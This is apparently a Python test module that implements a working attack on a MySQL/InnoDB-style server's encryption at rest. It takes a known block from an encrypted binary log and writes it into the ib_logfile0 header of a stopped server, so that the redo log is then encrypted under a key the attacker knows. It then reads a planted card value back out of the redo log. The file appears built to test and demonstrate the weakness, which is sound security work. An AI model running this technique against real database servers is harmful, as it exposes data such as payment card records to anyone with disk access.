"""Has the server encrypt its redo log under a key that the attacker knows, without any of the server's keys.

Binary logs are encrypted with the data key itself, so with aes_ctr and aes_cbc a block of them whose plaintext is known
gives a pair: X, and what the data key makes of X. The key of the redo log is what the data key makes of 16 bytes in the
header of ib_logfile0. So whoever can write to the disk of a server that is stopped puts X there.
"""

import secrets

from aes import blocks, cbc, counter, ctr, xor
from binary_log import events
from redo_log import RedoLog
from server import Failure

# The event that names the first binary log needed after a crash: each file begins with one. Its name is the second
# block of what is encrypted, whole, behind three zero bytes of its length.
NAME = b"binlog.000001"
CHECKPOINT_EVENT = 19 + 4 + len(NAME) + 4
SECOND_BLOCK = bytes(3) + NAME
REFUSED = "InnoDB: Plugin initialization aborted|Plugin 'InnoDB' registration as a STORAGE ENGINE failed"


def pair_of_ctr(event):
    """The block that the data key encrypts is a counter; what comes out is the key stream."""
    return counter(event.iv, 1), xor(blocks(event.cipher)[1], SECOND_BLOCK)


def pair_of_cbc(event):
    """The block that the data key encrypts is the plaintext XOR the ciphertext before it."""
    before, block = blocks(event.cipher)[:2]
    return xor(before, SECOND_BLOCK), block


# How a pair is made, and what is encrypted and decrypted with a key that is known, as each cipher does it. The record
# of a checkpoint is shorter than a block, for which aes_cbc encrypts as it decrypts.
WAYS = ((pair_of_ctr, ctr), (pair_of_cbc, cbc))


def log_of(host):
    """The file."""
    return host.data / "ib_logfile0"


def known_event(host):
    """An event of the first binary log whose second block is known."""
    return next(event for event in events(host.data / NAME.decode()) if len(event.cipher) == CHECKPOINT_EVENT - 4)


def stopped_server(site, store):
    """A server with a table, stopped in good order, and a known event of its first binary log."""
    host = site.bare(store)
    host.start()
    host.sql("CREATE DATABASE shop", "CREATE TABLE shop.cards (card CHAR(40))")
    host.stop()
    return host, known_event(host)


def attack(site, store):
    """A row that the redo log holds, read without a key; None if there is no way to it."""
    host, event = stopped_server(site, store)
    before = log_of(host).read_bytes()
    for pair, way in WAYS:
        block, key = pair(event)
        lsn = put(host, way, block, key)
        if host.starts():
            return f"the redo log's key is of the attacker's choice, and this was read in it: {read(host, way, block, key, lsn)}"
        host.has_said(REFUSED)
        log_of(host).write_bytes(before)
    # What was in the way was the cipher: with its own file the server starts.
    host.start()
    return None


def put(host, way, block, key, version=None):
    """Puts the block in the header, under a version of the data key. Returns the LSN from which the key counts."""
    log = RedoLog(log_of(host))
    log.with_checkpoint(block, lambda iv, plaintext: way(key, iv, plaintext), version)
    return log.checkpoint()[0]


def read(host, way, block, key, lsn):
    """Has the server that took the block write a secret, stops it, and reads that with the key."""
    secret = f"card {secrets.token_hex(12)}"
    host.sql(f"INSERT INTO shop.cards VALUES ('{secret}')")
    host.server.shut_down()
    log = RedoLog(log_of(host))
    if log.message() != block:
        raise Failure("the redo log has another message than the one that was put there")
    if not any(secret.encode() in way(key, group.iv, group.cipher) for group in log.mini_transactions(lsn)):
        raise Failure("the server took the redo log, and the key is not the one that was chosen")
    return secret
